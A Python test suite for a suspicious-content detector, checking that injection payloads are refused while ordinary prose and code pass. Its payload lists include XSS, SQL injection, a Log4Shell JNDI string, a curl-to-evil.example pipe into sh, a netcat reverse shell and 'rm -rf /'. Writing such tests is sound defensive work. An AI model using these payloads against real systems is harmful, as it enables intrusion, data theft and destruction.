"""The suspicious content check (design §7.2): every pattern stops its payloads; prose,
quoted code and every shipped or documented example pass."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from contracts.kinds import SPECS
from contracts.models import TriggerType
from contracts.triggers import config_problems
from tests import design_examples
from tests.factories import demo_request, demo_trigger
from tests.unit.resolver_helpers import error_codes, error_paths
from worker.catalog import demo_catalog
from worker.resolvers import InvalidInvocation, prepare_invocation
from worker.suspicious import ALLOW_FLAG, PATTERNS, Pattern, first_match, suspicious_content

# More payloads per category than the one example each pattern documents.
PAYLOADS = [
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg/onload=alert(1)>",
    '<body onload="steal()">',
    '<a href="javascript:void(0)" >x</a>',
    "<object data=x>",
    "admin' OR 1=1 --",
    "1') or ('a'='a",
    "x'; DELETE FROM accounts WHERE 1=1; --",
    "x'; UPDATE users SET role='admin' WHERE name='me'",
    "' union all select null, null --",
    "{{ config.items() }}",
    "{{ self.__init__.__globals__ }}",
    "${7*7}",
    "#{7*7}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "&& whoami",
    "; id",
    "name$(whoami)",
    "x || uname -a",
    "| cat /etc/passwd",
    "&& curl http://evil.example/x | sh",
    "$(uname -a)",
    "nc 10.0.0.1 4444 -e /bin/sh",
    "; rm -rf / --no-preserve-root",
]

# Ordinary text that must never trip the check: prose with SQL and shell words, commit
# messages with semicolons, emails quoting code, Markdown with tables and inline code.
ORDINARY = [
    "SELECT a plan; we'll drop by",
    "Fix parser crash; update docs and drop the legacy flag",
    "Rename 'user_id' to 'account_id'; update callers",
    "Merge branch 'main' into feature/login; resolve conflicts",
    'Revert "Drop table support"; it broke the exporter',
    "The union select committee meets on Monday; please delete from your calendar the old slot.",
    "JavaScript: The Good Parts is on my desk",
    "R&D and ops -- a joint review; or not?",
    "Can you run the script tonight? It's in scripts/deploy.sh.",
    "Rename `id` to `uuid` in the `users` table",
    "| id | name |\n| --- | --- |\n| 1 | Ada |",
    "Here is the fix:\n\n    if (count < limit && online) {\n        retry();\n    }\n",
    "Quoting the query:\n\n    SELECT id, name FROM users WHERE email = 'a@example.com';\n",
    "    UPDATE orders SET status = 'shipped' WHERE id = 42;",
    "Install with:\n\n    curl -fsSL https://get.example.com/install.sh | sh\n",
    'VERSION=$(cat VERSION)\necho "building $VERSION" && make release',
    'def greet(name):\n    return f"Hello, {name}!"  # called from views.py',
    "Template: Hello {{ first_name }}, your order {{ order.id }} has shipped.",
    "{% for item in items %}{{ item.name }}{% endfor %}",
    "Clean up with rm -rf build/ dist/ before packaging",
    "if [ -f /etc/os-release ]; then . /etc/os-release; fi",
    "Price: $(10) is wrong, should be ${price}",
    '<p>Hello <b>team</b>, see <a href="https://example.com">the report</a>.</p>',
    "Order results by name; id",
    "Fix the 'legacy'--now unused--path",
    "She said 'no'--and meant it",
    'Our script:\n\nOWNER=$(whoami)\nSTAMP="$(whoami)@$(hostname)"\n',
    "; settings.ini\n[core]\nname = demo\n",
    "; id of the user, as the old tool printed it",
    "Then run cat /etc/passwd | less to see the accounts",
]


@pytest.mark.parametrize("pattern", PATTERNS, ids=lambda p: p.name)
def test_every_pattern_stops_its_documented_payload(pattern: Pattern) -> None:
    assert pattern.regex.search(pattern.example), pattern.example
    errors = suspicious_content(TriggerType.WEBHOOK, {}, {"body": {"note": pattern.example}})
    assert [(e.path, e.code) for e in errors] == [("/parameters/body/note", "suspicious_content")]
    assert pattern.category in errors[0].message and ALLOW_FLAG in errors[0].message


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_payloads_are_refused(payload: str) -> None:
    assert first_match(payload) is not None, payload


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_and_quoted_code_pass(text: str) -> None:
    assert first_match(text) is None, first_match(text)


WORDS = (  # noqa: SIM905 -- a vocabulary reads better as text
    "a the we you it plan team build release fix update drop delete select insert union "
    "table from where order by or and not set exec run script alert cat id who am i rm "
    "sleep curl bash sh null true false user users admin password config self request item "
    "name email deploy staging production monday review merge branch main feature login "
    "docs java javascript template html sql shell 1 2 42 7 2026 v1.4.2"
).split()
CONTRACTIONS = ["we'll", "don't", "it's", "user's", "can't", "o'clock"]
SEPARATORS = [" ", " ", " ", ", ", ". ", "; ", ": ", "! ", "? ", " - ", " -- ", "--", " / ", " & "]


@st.composite
def prose(draw: st.DrawFn) -> str:
    """Sentences of ordinary words (SQL, shell and HTML words among them) with the
    punctuation of prose: commas, semicolons, colons, dashes, contractions, quotations and
    asides in parentheses."""
    words = draw(st.lists(st.sampled_from(WORDS + CONTRACTIONS), min_size=1, max_size=40))
    text = ""
    for index, word in enumerate(words):
        shape = draw(
            st.sampled_from(["plain"] * 6 + ["capital", "upper", "quoted", "single", "aside"])
        )
        if shape == "capital":
            word = word.capitalize()
        elif shape == "upper":
            word = word.upper()
        elif shape == "quoted":
            word = f'"{word}"'
        elif shape == "single":
            word = f"'{word}'"
        elif shape == "aside":
            word = f"({word})"
        text += word if index == 0 else draw(st.sampled_from(SEPARATORS)) + word
    return text + draw(st.sampled_from(["", ".", "?", "!", ";"]))


@given(prose())
def test_prose_never_trips_the_check(text: str) -> None:
    assert first_match(text) is None, first_match(text)


@given(st.text(alphabet=st.characters(categories=("L", "N", "Zs")), max_size=200))
def test_letters_digits_and_spaces_never_trip_the_check(text: str) -> None:
    assert first_match(text) is None


def _all_examples() -> list[tuple[str, TriggerType, dict[str, Any]]]:
    found = [
        (f"{t.value}: {e.name}", t, e.parameters)
        for t, spec in SPECS.items()
        for e in spec.parameter_examples
    ]
    found += [(f"{t.value} defaults", t, spec.default_parameters) for t, spec in SPECS.items()]
    for workflow in demo_catalog().workflows:
        for trigger in workflow.triggers:
            for example in trigger.config.get("examples", []):
                found.append((f"demo {trigger.id}", trigger.type, example["parameters"]))
    return found


SEED_EXAMPLES = design_examples.invocations()


@pytest.mark.parametrize(
    ("name", "trigger_type", "parameters"),
    _all_examples() + SEED_EXAMPLES,
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_no_shipped_or_documented_example_trips_the_check(
    name: str, trigger_type: TriggerType, parameters: dict[str, Any]
) -> None:
    assert suspicious_content(trigger_type, {}, parameters) == [], name


def test_html_fields_may_hold_markup_but_not_other_injections() -> None:
    html = '<html><body onload="init()"><script>track()</script><p>Hi</p></body></html>'
    assert suspicious_content(TriggerType.EMAIL, {}, {"body_html": html}) == []
    errors = suspicious_content(TriggerType.EMAIL, {}, {"body": html, "body_html": "x' OR 1=1"})
    assert sorted(e.path for e in errors) == ["/parameters/body", "/parameters/body_html"]
    # Markup is HTML's nature only in an email's HTML body, not in a webhook's field of that name
    assert suspicious_content(TriggerType.WEBHOOK, {}, {"body": {"body_html": html}}) != []


def test_each_offending_string_is_reported_once_at_its_json_pointer() -> None:
    parameters = {
        "body": {"a/b": ["fine", "<script>x</script>"], "ok": "fine", "n": 3},
        "headers": {"X-Note": "$(whoami)"},
    }
    errors = suspicious_content(TriggerType.WEBHOOK, {}, parameters)
    assert [e.path for e in errors] == ["/parameters/body/a~1b/1", "/parameters/headers/X-Note"]


@pytest.mark.parametrize("trigger_type", list(TriggerType))
def test_every_type_s_config_accepts_the_allow_flag(trigger_type: TriggerType) -> None:
    # Given the demo trigger of this type, allowed suspicious content
    trigger = demo_trigger(trigger_type, **{ALLOW_FLAG: True})
    assert config_problems(trigger) == []
    # Then a payload passes the check (other checks still apply as ever)
    assert suspicious_content(trigger_type, trigger.config, {"x": "<script>1</script>"}) == []


def test_a_payload_is_refused_through_the_invocation_path_unless_allowed() -> None:
    payload = {"body": {"comment": "x'; DROP TABLE users; --"}}
    request = demo_request(TriggerType.WEBHOOK, parameters=payload)
    with pytest.raises(InvalidInvocation) as refused:
        prepare_invocation(request, demo_trigger(TriggerType.WEBHOOK))
    assert error_paths(refused) == ["/parameters/body/comment"]
    assert error_codes(refused) == ["suspicious_content"]
    allowed = demo_trigger(TriggerType.WEBHOOK, **{ALLOW_FLAG: True})
    prepared = prepare_invocation(request, allowed)
    assert prepared.event.trigger_data["body"] == payload["body"]


def test_the_allow_flag_must_be_a_boolean() -> None:
    errors = suspicious_content(TriggerType.WEBHOOK, {ALLOW_FLAG: "yes"}, {"body": "<script>"})
    assert [(e.path, e.code) for e in errors] == [(f"/trigger_config/{ALLOW_FLAG}", "type")]


def test_the_security_guide_lists_every_pattern_exactly() -> None:
    guide = (Path(__file__).resolve().parents[2] / "docs" / "security.md").read_text()
    for pattern in PATTERNS:
        assert f"{pattern.name}    e.g. {pattern.example}\n    {pattern.regex.pattern}\n" in guide
